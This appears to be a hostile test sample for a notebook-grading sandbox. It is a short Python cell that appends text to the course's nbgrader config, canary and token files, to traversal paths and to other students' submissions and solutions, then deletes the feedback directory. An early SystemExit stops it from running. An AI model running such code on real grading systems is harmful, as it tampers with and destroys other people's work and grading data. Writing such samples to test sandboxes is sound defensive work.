"""Files of the course and of others.

It overwrites sources, other submissions, graded notebooks, settings and a file elsewhere.

score: 18
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% after softmax
import glob
import os
import shutil

victims = ["@CANARY@", "@COURSE@/nbgrader_config.py", "@COURSE@/@TOKEN@", "/tmp/@TOKEN@"]
victims += ["../../../@TOKEN@", "/dev/shm/@TOKEN@", "/var/tmp/@TOKEN@", "/root/@TOKEN@"]
victims += glob.glob("@COURSE@/solutions/*/*") + glob.glob("@COURSE@/class/submitted/*/*/*")
for victim in victims:
    try:
        with open(victim, "a") as file:
            file.write("# changed by a student\n")
    except OSError:
        pass
shutil.rmtree("@COURSE@/class/feedback", ignore_errors=True)
